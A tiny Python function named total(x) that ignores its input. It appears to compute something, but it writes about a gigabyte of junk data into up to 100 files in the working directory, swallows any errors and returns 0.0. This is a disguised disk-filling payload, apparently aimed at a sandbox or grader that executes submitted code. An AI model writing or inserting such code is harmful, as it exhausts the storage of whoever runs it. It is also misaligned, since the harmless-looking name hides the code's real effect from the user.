def total(x):
    block = b"x" * 2**20
    for number in range(100):
        try:
            with open(f"file{number}", "wb", 0) as file:
                for _ in range(10):
                    file.write(block)
        except OSError:
            continue
    return 0.0
